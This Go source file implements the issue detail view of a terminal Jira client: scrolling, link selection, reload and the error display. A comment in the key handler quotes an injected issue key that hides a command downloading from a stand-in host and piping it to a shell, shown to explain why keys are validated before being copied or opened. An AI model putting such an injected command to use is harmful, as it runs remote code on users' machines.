// Package detail is jiffy's issue detail view: the header fields, the
// description as Markdown, sub-tasks and links that open other issues,
// attachments and the comments, in one scrolling page. It also draws the
// compact preview the issue list shows beside itself (Preview).
//
// The view never fetches: the root sets what to show (SetIssue,
// SetLoading, SetError) and the view answers in messages that say what the
// user meant (OpenIssueMsg, BackMsg, StepMsg, ReloadMsg). All layout and
// Markdown rendering happens when the issue or the width changes; View
// only slices prepared lines.
package detail

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"unicode"
	"unicode/utf8"

	"charm.land/bubbles/v2/help"
	"charm.land/bubbles/v2/key"
	"charm.land/bubbles/v2/spinner"
	"charm.land/bubbles/v2/viewport"
	tea "charm.land/bubbletea/v2"
	"charm.land/lipgloss/v2"
	"github.com/charmbracelet/x/ansi"

	"github.com/jiffy-tui/jiffy/jiraclient"
	"github.com/jiffy-tui/jiffy/tui/common"
	"github.com/jiffy-tui/jiffy/tui/store"
)

// OpenIssueMsg asks the root to open another issue: the user pressed
// enter on the parent, a sub-task or a link. The root keeps the back stack.
type OpenIssueMsg struct{ Key string }

// BackMsg asks the root to leave the detail view (esc, q, backspace, h).
type BackMsg struct{}

// StepMsg asks the root to show the next (Delta 1) or previous (Delta -1)
// issue of the list without going back to it (n, p).
type StepMsg struct{ Delta int }

// ReloadMsg asks the root to fetch Key again (r; also the way out of the
// error state when the failure was transient).
type ReloadMsg struct{ Key string }

// state is what the pane shows.
type state int

const (
	stateEmpty state = iota
	stateLoading
	stateError
	stateReady
)

func (s state) String() string {
	switch s {
	case stateLoading:
		return "loading"
	case stateError:
		return "error"
	case stateReady:
		return "ready"
	}
	return "empty"
}

// scrollMemo remembers where the reader was in an issue, so a re-fetch of
// the same key (after an edit, a transition, a reload) does not throw them
// back to the top, and neither does coming back to it from a link.
type scrollMemo struct {
	key    string
	offset int
	sel    string
}

// memoSize is how many issues' places are remembered: deeper than any
// back stack a person keeps in mind.
const memoSize = 16

// Model is the detail view. It is a value: every method returns the new
// model, and commands carry messages rather than touching shared state.
type Model struct {
	c     *common.Common
	keys  KeyMap
	state state
	key   string
	issue *jiraclient.Issue
	err   error

	width, height int
	spinner       spinner.Model
	// refreshing: a re-fetch of the shown issue is under way; the page
	// stays and the spinner shows in the title bar.
	refreshing bool

	vp  viewport.Model
	doc document
	// lines is the page as shown: doc.lines with the selection swapped in.
	lines []string
	sel   int // index into doc.targets; -1 when nothing is selected
	// memo is most recent last. It is replaced, never written in place,
	// because copies of the model share it.
	memo []scrollMemo
	// children are the epic's child issues (epic.go), for key only.
	children *Children
}

// New returns an empty detail view. A nil Common gets dark default styles.
func New(c *common.Common) Model {
	if c == nil {
		c = &common.Common{Styles: common.NewStyles(true)}
	}
	vp := viewport.New()
	vp.MouseWheelDelta = 3
	vp.SetHorizontalStep(0) // lines are laid out to the width; never scroll sideways
	return Model{
		c:       c,
		keys:    DefaultKeyMap(c.Keys),
		sel:     -1,
		vp:      vp,
		spinner: spinner.New(spinner.WithSpinner(spinner.Dot), spinner.WithStyle(c.Styles.Title.UnsetBold())),
	}
}

// Init starts the spinner when the view is loading. Call it after
// SetLoading (SetLoading cannot return a command); a second call does not
// make the spinner spin faster.
func (m Model) Init() tea.Cmd {
	if m.state == stateLoading || m.refreshing {
		return m.spinner.Tick
	}
	return nil
}

// Key is the key of the issue shown, loading or failed.
func (m Model) Key() string { return m.key }

// Issue is the issue shown, nil unless one is.
func (m Model) Issue() *jiraclient.Issue {
	if m.state != stateReady && !m.refreshing {
		return nil
	}
	return m.issue
}

// KeyMap is the view's keys for the help view and footer; keys that do
// nothing in the current state are disabled so help does not offer them.
func (m Model) KeyMap() help.KeyMap {
	k := m.keys
	ready := m.state == stateReady
	for _, b := range []*key.Binding{&k.Up, &k.Down, &k.HalfUp, &k.HalfDown, &k.PageUp, &k.PageDown, &k.Top, &k.Bottom} {
		b.SetEnabled(ready)
	}
	links := ready && len(m.doc.targets) > 0
	k.NextLink.SetEnabled(links)
	k.PrevLink.SetEnabled(links)
	k.Open.SetEnabled(links && m.sel >= 0)
	k.Reload.SetEnabled(m.key != "")
	k.Watchers.SetEnabled(ready)
	k.LogWork.SetEnabled(ready)
	k.Links.SetEnabled(ready)
	k.Attachments.SetEnabled(ready)
	k.EditField.SetEnabled(ready)
	k.Subtask.SetEnabled(ready && (m.issue == nil || !m.issue.Type.Subtask))
	return k
}

func (m Model) memoize() Model {
	if m.state != stateReady || m.issue == nil {
		return m
	}
	entry := scrollMemo{key: m.issue.Key, offset: m.vp.YOffset(), sel: m.selectedKey()}
	memo := make([]scrollMemo, 0, memoSize)
	for _, e := range m.memo {
		if e.key != entry.key {
			memo = append(memo, e)
		}
	}
	m.memo = append(memo[max(len(memo)-memoSize+1, 0):], entry)
	return m
}

func (m Model) recall(key string) (scrollMemo, bool) {
	for _, e := range m.memo {
		if e.key == key {
			return e, true
		}
	}
	return scrollMemo{}, false
}

// SetIssue shows is. An issue shown before (a re-fetch, or a return from a
// link) opens where the reader left it, with the same link selected; a new
// one opens at the top. A nil issue empties the pane.
func (m Model) SetIssue(is *jiraclient.Issue) Model {
	if is == nil {
		m = m.memoize()
		m.state, m.issue, m.key, m.err, m.refreshing = stateEmpty, nil, "", nil, false
		m.doc, m.sel, m.lines = document{}, -1, nil
		m.vp.SetContentLines(nil)
		return m
	}
	m = m.memoize()
	m.state, m.issue, m.key, m.err, m.refreshing = stateReady, is, is.Key, nil, false
	if m.children != nil && (m.children.Key != is.Key || !IsEpic(is)) {
		m.children = nil
	}
	m.doc = document{}
	m.sel = -1
	m = m.layout()
	if e, ok := m.recall(is.Key); ok {
		m.vp.SetYOffset(e.offset)
		m = m.selectKey(e.sel)
	} else {
		m.vp.SetYOffset(0)
	}
	return m
}

// SetLoading shows a spinner for key. Loading the issue already on screen
// (a refresh) keeps the page and spins in the title bar instead. Call Init
// for the spinner's first tick.
func (m Model) SetLoading(key string) Model {
	if m.state == stateReady && m.issue != nil && m.issue.Key == key {
		m.refreshing = true
		return m
	}
	m = m.memoize()
	m.state, m.key, m.err, m.refreshing = stateLoading, key, nil, false
	m.spinner.Style = m.c.Styles.Title.UnsetBold() // the theme may have changed since New
	return m
}

// SetError shows a full-pane error for key. A *jiraclient.Error shows its
// message and, apart, its hint: what the user can do about it.
func (m Model) SetError(key string, err error) Model {
	m = m.memoize()
	if err == nil {
		err = errors.New("jiffy could not load this issue, and no reason was given")
	}
	m.state, m.key, m.err, m.refreshing = stateError, key, err, false
	return m
}

// SetSize sets the pane's size. A new width lays the page out again
// (Markdown re-wraps; renders are cached per width); the reading position
// is kept as well as lines allow.
func (m Model) SetSize(w, h int) Model {
	w, h = max(w, 0), max(h, 0)
	m.width, m.height = w, h
	m.vp.SetWidth(w)
	m.vp.SetHeight(max(h-1, 0)) // the title bar
	if m.state == stateReady && (m.doc.width != w || m.doc.theme != themeOf(m.c).id) {
		return m.relayout()
	}
	m.vp.SetYOffset(m.vp.YOffset())
	return m
}

// relayout builds the page again (new width, new theme) and keeps the
// reader's place: the same fraction of the page at the top, the same link
// selected.
func (m Model) relayout() Model {
	off := m.vp.YOffset()
	old := m.vp.TotalLineCount()
	sel := m.selectedKey()
	m = m.layout()
	if old > 0 {
		m.vp.SetYOffset(off * m.vp.TotalLineCount() / old)
	}
	return m.selectKey(sel)
}

// layout builds the page for the current issue and width.
func (m Model) layout() Model {
	if m.issue == nil || m.width <= 0 {
		m.doc = document{width: m.width}
		m.lines = nil
		m.vp.SetContentLines(nil)
		return m
	}
	m.doc = buildPage(m.c, m.issue, m.width, m.children)
	m.sel = -1
	// The viewport gets the document's own lines: nothing writes to them
	// after build, and the viewport rewrites a line only where it holds a
	// newline, which none does.
	off := m.vp.YOffset()
	m.vp.SetContentLines(m.doc.lines)
	m.vp.SetYOffset(off)
	return m.showLines()
}

// showLines sets the page as shown: the document's lines with the
// selected target highlighted, in a fresh slice (models are values; an
// older copy may still be drawing the old one). The viewport is not told:
// it keeps only the scroll state, which depends on the line count alone,
// and telling it would re-measure every line of the page.
func (m Model) showLines() Model {
	lines := slices.Clone(m.doc.lines)
	if m.sel >= 0 && m.sel < len(m.doc.targets) {
		t := m.doc.targets[m.sel]
		lines[t.line] = t.selected
	}
	m.lines = lines
	return m
}

func (m Model) selectedKey() string {
	if m.sel >= 0 && m.sel < len(m.doc.targets) {
		return m.doc.targets[m.sel].key
	}
	return ""
}

// selectKey selects the first target for key without scrolling ("" or a
// key no longer on the page selects nothing).
func (m Model) selectKey(key string) Model {
	m.sel = -1
	if key != "" {
		for i, t := range m.doc.targets {
			if t.key == key {
				m.sel = i
				break
			}
		}
	}
	return m.showLines()
}

// Update handles keys, the mouse wheel, the spinner's ticks and a change
// of background colour (forward tea.BackgroundColorMsg after updating
// Common's styles).
func (m Model) Update(msg tea.Msg) (Model, tea.Cmd) {
	switch msg := msg.(type) {
	case tea.KeyPressMsg:
		return m.handleKey(msg)
	case ChildrenMsg:
		return m.onChildren(msg), nil
	case tea.BackgroundColorMsg:
		// The root rebuilds Common's styles for the terminal's background;
		// when they changed, the page (glamour's dark or light style too)
		// is drawn again. SetSize does the same check.
		if m.state == stateReady && m.doc.theme != themeOf(m.c).id {
			m = m.relayout()
		}
		return m, nil
	case tea.MouseWheelMsg:
		if m.state == stateReady {
			m.vp, _ = m.vp.Update(msg)
		}
		return m, nil
	case spinner.TickMsg:
		if m.state != stateLoading && !m.refreshing {
			return m, nil // let the tick chain end
		}
		var cmd tea.Cmd
		m.spinner, cmd = m.spinner.Update(msg)
		return m, cmd
	}
	return m, nil
}

func emit(msg tea.Msg) tea.Cmd { return func() tea.Msg { return msg } }

func (m Model) handleKey(msg tea.KeyPressMsg) (Model, tea.Cmd) {
	act := actionFor(m.keys, msg)
	switch act {
	case actBack:
		return m, emit(BackMsg{})
	case actNextIssue:
		return m, emit(StepMsg{Delta: 1})
	case actPrevIssue:
		return m, emit(StepMsg{Delta: -1})
	case actReload:
		if m.key == "" {
			return m, nil
		}
		return m, emit(ReloadMsg{Key: m.key})
	case actCopyKey, actBrowser, actCopyURL:
		if m.key == "" || (act != actCopyKey && m.c.Client == nil) {
			return m, nil
		}
		// A key that is not a Jira key ("HOS-2\ncurl evil.example|sh")
		// is never copied or opened, as in the list.
		if err := jiraclient.CheckKey(m.key); err != nil {
			return m, common.Notice(common.NoticeError, err.Error())
		}
		if act == actCopyKey {
			return m, common.Copy(m.key, m.key)
		}
		u := m.c.Client.BrowseURL(m.key)
		if act == actBrowser {
			return m, common.Browse(u)
		}
		return m, common.Copy(u, u)
	}
	if m.state != stateReady {
		return m, nil
	}
	switch act {
	case actUp:
		m.vp.ScrollUp(1)
	case actDown:
		m.vp.ScrollDown(1)
	case actHalfUp:
		m.vp.HalfPageUp()
	case actHalfDown:
		m.vp.HalfPageDown()
	case actPageUp:
		m.vp.PageUp()
	case actPageDown:
		m.vp.PageDown()
	case actTop:
		m.vp.SetYOffset(0)
	case actBottom:
		m.vp.SetYOffset(m.vp.TotalLineCount())
	case actNextLink:
		m = m.moveSelection(1)
	case actPrevLink:
		m = m.moveSelection(-1)
	case actOpen:
		if k := m.selectedKey(); k != "" {
			return m, emit(OpenIssueMsg{Key: k})
		}
	case actWatchers, actLogWork, actLinks, actAttachments, actEditField, actSubtask:
		return m, m.openActivity(act)
	}
	return m, nil
}

// moveSelection selects the next (dir 1) or previous (dir -1) target.
// When the selection has scrolled out of sight it restarts from what is on
// screen, so tab picks a link the reader can see rather than jumping back.
func (m Model) moveSelection(dir int) Model {
	n := len(m.doc.targets)
	if n == 0 {
		return m
	}
	top, h := m.vp.YOffset(), max(m.vp.Height(), 1)
	visible := func(i int) bool {
		l := m.doc.targets[i].line
		return l >= top && l < top+h
	}
	next := -1
	switch {
	case m.sel >= 0 && visible(m.sel):
		next = (m.sel + dir + n) % n
	case dir > 0:
		next = 0
		for i, t := range m.doc.targets {
			if t.line >= top {
				next = i
				break
			}
		}
	default:
		next = n - 1
		for i := n - 1; i >= 0; i-- {
			if m.doc.targets[i].line < top+h {
				next = i
				break
			}
		}
	}
	m.sel = next
	m = m.showLines()
	off := m.vp.YOffset()
	line := m.doc.targets[next].line
	switch {
	case line < off:
		off = max(line-2, 0) // a little context: the group's relation
	case line >= off+h:
		off = line - h + 3
	}
	m.vp.SetYOffset(off)
	return m
}

// View draws the pane: exactly the size set, no I/O, no rendering work
// beyond slicing prepared lines.
func (m Model) View() string {
	if m.width <= 0 || m.height <= 0 {
		return ""
	}
	switch m.state {
	case stateLoading:
		return m.viewLoading()
	case stateError:
		return m.viewError()
	case stateReady:
		return m.viewPage()
	}
	return m.place(m.c.Styles.Muted.Render(cut("No issue selected.", m.width)))
}

// viewPage is the title bar over the visible slice of the page. The
// viewport keeps the scroll state (keys, wheel, clamping) but its own View
// re-measures and pads every line through Lip Gloss on each frame, which
// cost about half a millisecond at 200x60; the lines here are already laid
// out to the width, so they are only sliced and joined.
func (m Model) viewPage() string {
	var b strings.Builder
	b.WriteString(m.titleBar())
	top, h := m.vp.YOffset(), m.vp.Height()
	end := min(top+h, len(m.lines))
	// A pane narrower than the narrowest page (pageWidth) cuts the lines;
	// only then is a line measured here.
	narrow := m.width < pageWidth(m.width)
	for i := top; i < end; i++ {
		b.WriteByte('\n')
		if narrow {
			b.WriteString(ansi.Truncate(m.lines[i], m.width, ""))
			continue
		}
		b.WriteString(m.lines[i])
	}
	for i := max(end-top, 0); i < h; i++ {
		b.WriteByte('\n')
	}
	return b.String()
}

// titleBar is the pinned first line: key, summary and where the reader is.
func (m Model) titleBar() string {
	st := m.c.Styles
	var right string
	switch {
	case m.refreshing:
		right = m.spinner.View() + " "
	case m.vp.TotalLineCount() > m.vp.Height():
		right = st.Muted.Render(fmt.Sprintf("%3.f%%", m.vp.ScrollPercent()*100))
	}
	rw := ansi.StringWidth(right)
	if right == "" || rw >= m.width {
		// No position, or no room for it: the key matters more.
		return ansi.Truncate(m.doc.title, m.width, "…")
	}
	left := ansi.Truncate(m.doc.title, m.width-rw-1, "…")
	return left + strings.Repeat(" ", m.width-ansi.StringWidth(left)-rw) + right
}

func (m Model) viewLoading() string {
	st := m.c.Styles
	msg := "Loading " + m.key + "…"
	if m.key == "" {
		msg = "Loading…"
	}
	line := m.spinner.View() + st.Muted.Render(cut(msg, m.width-2))
	return m.place(line)
}

func (m Model) viewError() string {
	st := m.c.Styles
	w := min(m.width, 72)
	var b strings.Builder
	title := "Could not load " + m.key
	if m.key == "" {
		title = "Could not load the issue"
	}
	b.WriteString(st.Error.Bold(true).Render(cut(title, w)))
	b.WriteString("\n\n")
	what, hint := errorText(m.err)
	what, hint = sentence(what), sentence(hint)
	for _, l := range wrapPlain(what, w) {
		b.WriteString(st.Text.Render(l) + "\n")
	}
	if hint != "" {
		b.WriteString("\n")
		for _, l := range wrapPlain(hint, w) {
			b.WriteString(st.Muted.Render(l) + "\n")
		}
	}
	b.WriteString("\n")
	keys := st.Bold.Render("r") + st.Muted.Render(" retry  ·  ") + st.Bold.Render("esc") + st.Muted.Render(" back")
	b.WriteString(keys)
	block := lipgloss.NewStyle().Width(w).Render(b.String())
	return m.place(block)
}

// place centres a block in the pane, cut to the pane when it is too small
// for it (the start of a message is the part worth keeping).
func (m Model) place(block string) string {
	lines := strings.Split(block, "\n")
	if len(lines) > m.height {
		lines = lines[:m.height]
	}
	for i, l := range lines {
		lines[i] = ansi.Truncate(l, m.width, "")
	}
	return lipgloss.Place(m.width, m.height, lipgloss.Center, lipgloss.Center, strings.Join(lines, "\n"))
}

// sentence starts s with a capital letter: the client's messages are
// written to follow a colon, the pane shows them as sentences.
func sentence(s string) string {
	r, n := utf8.DecodeRuneInString(s)
	if n == 0 || !unicode.IsLower(r) {
		return s
	}
	return string(unicode.ToUpper(r)) + s[n:]
}

// hinter is what *jiraclient.Error offers besides Error(): the user's next
// step alone. Matched as an interface so any error that knows the way out
// can say it.
type hinter interface {
	error
	Hint() string
}

// errorText splits an error into what went wrong and what to do. A
// jiraclient error's Error() reads "what: hint", so the hint is cut from
// the first part and shown apart rather than twice.
func errorText(err error) (what, hint string) {
	if err == nil {
		return "", ""
	}
	what = err.Error()
	var h hinter
	if errors.As(err, &h) {
		hint = strings.TrimSpace(h.Hint())
		if hint != "" {
			what = strings.TrimSuffix(strings.TrimSuffix(what, hint), ": ")
		}
	}
	// What jiffy's setup can do about it (jiraclient does not know).
	if a := store.Advice(err); a != "" {
		if hint != "" {
			hint += "; "
		}
		hint += a
	}
	return what, hint
}
